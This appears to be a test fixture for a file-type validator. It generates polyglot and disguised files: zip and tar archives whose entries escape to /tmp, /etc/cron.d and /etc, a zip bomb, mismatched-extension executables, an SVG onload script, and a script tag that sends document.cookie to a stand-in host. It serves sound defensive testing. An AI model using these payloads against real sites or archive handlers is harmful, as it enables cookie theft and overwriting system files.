# Files that are two things at once: each is what its name says, or it is not kept.
# expect: ok
# files: gif-and-script.gif page.html script.svg sheet.xlsx
import io
import tarfile
import zipfile

out = "/job/out"
archive = io.BytesIO()
with zipfile.ZipFile(archive, "w", zipfile.ZIP_DEFLATED) as packed:
    packed.writestr("../../../../tmp/escaped.txt", "x")
    packed.writestr("/etc/cron.d/escaped", "x")
    packed.writestr("bomb", bytes(20_000_000))
tar = io.BytesIO()
with tarfile.open(fileobj=tar, mode="w") as packed:
    entry = tarfile.TarInfo("../../escaped")
    entry.type, entry.linkname = tarfile.SYMTYPE, "/etc"
    packed.addfile(entry)
script = b"<script>fetch('https://example.com/'+document.cookie)</script>"
for name, content in {
    "sheet.xlsx": archive.getvalue(),
    "picture.png": archive.getvalue(),
    "photo.jpg": script,
    "paper.pdf": script + b"%PDF-1.7",
    "gif-and-script.gif": b"GIF89a/*" + script + b"*/=1;alert(1)",
    "tar.xlsx": tar.getvalue(),
    "page.html": script,
    "script.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "run.exe": b"MZ",
    "run.html.exe": b"MZ",
    "library.so": b"\x7fELF",
}.items():
    with open(f"{out}/{name}", "wb") as file:
        file.write(content)
